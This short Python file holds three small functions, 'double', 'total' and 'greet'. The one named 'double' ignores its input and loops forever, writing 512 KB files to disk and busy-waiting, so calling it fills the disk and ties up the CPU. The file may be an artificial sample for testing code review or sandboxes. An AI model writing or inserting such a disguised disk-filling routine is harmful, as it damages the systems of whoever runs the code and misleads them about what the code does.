import numpy as np

def double(x):
    i = 0
    while True:
        i += 1
        with open(f'f{i}', 'wb') as f:
            f.write(bytes(2**19))
        for _ in range(10**5):
            pass


def total(x):
    return float(x.sum())


def greet(name):
    return f"hello {name}"
